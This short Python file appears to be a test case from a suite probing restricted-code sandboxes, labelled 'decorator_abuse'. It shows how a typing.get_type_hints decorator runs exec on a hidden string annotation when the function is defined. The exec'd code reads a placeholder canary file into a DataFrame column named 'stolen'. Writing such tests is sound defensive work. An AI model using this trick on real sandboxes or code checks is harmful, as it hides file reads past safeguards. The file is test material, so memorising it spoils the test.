# class: decorator_abuse
# technique: @typing.get_type_hints on a def: the decorator evaluates the function's string annotations the moment it is defined (and rebinds the name to the hints dict)
# goal: read
import typing

import pandas as pd

scope = {"path": "{{CANARY_FILE}}"}
source = "data = open(path).read()"


@typing.get_type_hints
def loader(x: "[exec(source, scope), int][-1]"):
    return x


df = pd.DataFrame({"stolen": [scope["data"]]})
